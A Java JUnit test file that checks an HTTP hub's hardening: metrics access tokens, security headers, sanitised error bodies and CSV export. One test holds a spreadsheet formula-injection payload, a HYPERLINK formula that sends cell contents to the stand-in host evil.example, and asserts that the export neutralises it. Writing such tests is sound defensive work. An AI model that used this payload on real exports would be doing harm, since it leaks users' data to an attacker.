package kuzet.hub.api;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import io.vertx.core.json.JsonArray;
import io.vertx.core.json.JsonObject;
import java.net.http.HttpResponse;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.DriverManager;
import java.time.Instant;
import java.time.temporal.ChronoUnit;
import java.util.Map;
import java.util.UUID;
import kuzet.hub.testing.FakePost;
import kuzet.hub.testing.SecuredHub;
import kuzet.hub.testing.SecuredHub.Browser;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The smaller holes of the HTTP side, through the real server: /metrics, error bodies, headers, CSV cells. */
class HttpHardeningTest {
  static final String TOKEN = "scrape-token-0123456789";

  @TempDir
  Path dir;

  @Test
  void metricsNeedTheTokenOrAnAdminEvenFromLoopback() throws Exception {
    try (SecuredHub h = SecuredHub.start(dir, Map.of("metrics.token", TOKEN), java.time.Clock.systemUTC())) {
      assertThat(h.get("/metrics").statusCode()).as("loopback without a token").isEqualTo(401);
      assertThat(h.get("/metrics", "Authorization", "Bearer " + TOKEN + "x").statusCode()).isEqualTo(401);
      Browser duty = h.signedIn(SecuredHub.OPERATOR, SecuredHub.OPERATOR_PW);
      assertThat(h.get("/metrics", "Cookie", duty.cookie()).statusCode()).isEqualTo(403);
      HttpResponse<String> scraped = h.get("/metrics", "Authorization", "Bearer " + TOKEN);
      assertThat(scraped.statusCode()).isEqualTo(200);
      assertThat(scraped.body()).contains("kuzet_ingest");
      Browser admin = h.signedIn(SecuredHub.ADMIN, SecuredHub.ADMIN_PW);
      assertThat(h.get("/metrics", "Cookie", admin.cookie()).statusCode()).isEqualTo(200);
    }
  }

  @Test
  void everyResponseCarriesTheContentSecurityPolicyAndApiAnswersAreNotStored() throws Exception {
    try (SecuredHub h = SecuredHub.start(dir)) {
      Browser duty = h.signedIn(SecuredHub.OPERATOR, SecuredHub.OPERATOR_PW);
      for (String path : new String[] {"/", "/js/main.js", "/health", "/nothing-here", "/api/posts", "/api/session",
          "/api/openapi.yaml", "/api/nothing"}) {
        HttpResponse<String> anonymous = h.get(path);
        HttpResponse<String> signedIn = h.get(path, "Cookie", duty.cookie());
        for (HttpResponse<String> r : java.util.List.of(anonymous, signedIn)) {
          assertThat(r.headers().firstValue("Content-Security-Policy")).as(path).hasValueSatisfying(csp ->
              assertThat(csp).contains("frame-ancestors 'none'").contains("script-src 'self'"));
          assertThat(r.headers().firstValue("X-Frame-Options")).as(path).hasValue("DENY");
          if (path.startsWith("/api/") && r.headers().firstValue("content-type").orElse("").contains("json")) {
            assertThat(r.headers().firstValue("Cache-Control")).as(path + " " + r.statusCode()).hasValue("no-store");
          }
        }
      }
      assertThat(h.get("/api/posts", "Cookie", duty.cookie()).headers().firstValue("Cache-Control")).hasValue("no-store");
      assertThat(h.get("/health").headers().firstValue("Cache-Control")).hasValue("no-store");
    }
  }

  @Test
  void anInternalFailureAnswersAnIdAndNeverTheExceptionText() throws Exception {
    try (SecuredHub h = SecuredHub.start(dir)) {
      try (Connection c = DriverManager.getConnection("jdbc:sqlite:" + h.hub.config().store().sqliteFile())) {
        c.createStatement().execute("DROP TABLE operator_sessions");
      }
      HttpResponse<String> r = h.signIn(SecuredHub.OPERATOR, SecuredHub.OPERATOR_PW);
      assertThat(r.statusCode()).isEqualTo(500);
      String error = new JsonObject(r.body()).getString("error");
      assertThat(error).matches("internal error [0-9a-f]{8}; the hub's log has the details under this id");
      assertThat(r.body()).doesNotContainIgnoringCase("sql").doesNotContain("operator_sessions")
          .doesNotContain("Exception");
    }
  }

  @Test
  void formulaCellsInTheIncidentCsvAreInert() throws Exception {
    try (SecuredHub h = SecuredHub.start(dir);
         FakePost post = new FakePost(h.broker.url(), SecuredHub.POST, "boot-1", 30)) {
      Browser duty = h.signedIn(SecuredHub.OPERATOR, SecuredHub.OPERATOR_PW);
      Instant from = Instant.now().minus(1, ChronoUnit.HOURS);
      post.publish(post.panic(UUID.randomUUID()), false);
      String[] id = new String[1];
      await().until(() -> {
        JsonArray open = new JsonArray(h.get("/api/alerts", "Cookie", duty.cookie()).body());
        id[0] = open.isEmpty() ? null : open.getJsonObject(0).getString("id");
        return id[0] != null;
      });
      String note = "=HYPERLINK(\"http://evil.example/?\"&A1,\"details\")";
      assertThat(h.as(duty, "POST", "/api/alerts/" + id[0] + "/ack", new JsonObject().put("note", "@SUM(1+1)").encode())
          .statusCode()).isEqualTo(200);
      assertThat(h.as(duty, "POST", "/api/alerts/" + id[0] + "/resolve", new JsonObject().put("note", note).encode())
          .statusCode()).isEqualTo(200);
      HttpResponse<String> csv = h.get("/api/reports/incidents?format=csv&from=" + from + "&to="
          + Instant.now().plus(1, ChronoUnit.HOURS), "Cookie", duty.cookie());
      assertThat(csv.statusCode()).as(csv.body()).isEqualTo(200);
      assertThat(csv.body()).contains("\"'=HYPERLINK(").doesNotContain(",=HYPERLINK").doesNotContain(",\"=HYPERLINK");
    }
  }
}
